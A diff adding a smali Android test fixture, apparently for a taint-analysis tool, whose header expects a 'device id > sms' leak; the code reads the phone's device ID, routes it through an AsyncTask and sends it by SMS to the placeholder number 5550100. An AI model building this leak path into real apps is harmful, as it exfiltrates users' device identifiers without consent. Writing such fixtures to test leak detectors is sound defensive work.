@@ -1,0 +1,67 @@
+# an AsyncTask's parameter, its result, and then out
+# expect: device id > sms
+
+.class public Lsample/Main;
+.super Landroid/app/Activity;
+
+.field public static phone:Landroid/telephony/TelephonyManager;
+
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
+    return-void
+.end method
+
+.method public onCreate(Landroid/os/Bundle;)V
+    .registers 12
+    sget-object v0, Lsample/Main;->phone:Landroid/telephony/TelephonyManager;
+    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    move-result-object v0
+    new-instance v1, Lsample/Task;
+    invoke-direct {v1}, Lsample/Task;-><init>()V
+    const/4 v2, 0x1
+    new-array v2, v2, [Ljava/lang/Object;
+    const/4 v3, 0x0
+    aput-object v0, v2, v3
+    invoke-virtual {v1, v2}, Lsample/Task;->execute([Ljava/lang/Object;)Landroid/os/AsyncTask;
+    return-void
+.end method
+
+.class public Lsample/Task;
+.super Landroid/os/AsyncTask;
+
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/os/AsyncTask;-><init>()V
+    return-void
+.end method
+
+.method protected doInBackground([Ljava/lang/Object;)Ljava/lang/Object;
+    .registers 4
+    const/4 v0, 0x0
+    aget-object v0, p1, v0
+    return-object v0
+.end method
+
+.method protected onPostExecute(Ljava/lang/Object;)V
+    .registers 4
+    check-cast p1, Ljava/lang/String;
+    invoke-static {p1}, Lsample/Out;->send(Ljava/lang/String;)V
+    return-void
+.end method
+
+.class public Lsample/Out;
+.super Ljava/lang/Object;
+
+.method public static send(Ljava/lang/String;)V
+    .registers 8
+    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
+    move-result-object v0
+    const-string v1, "5550100"
+    const/4 v2, 0x0
+    move-object v3, p0
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    return-void
+.end method
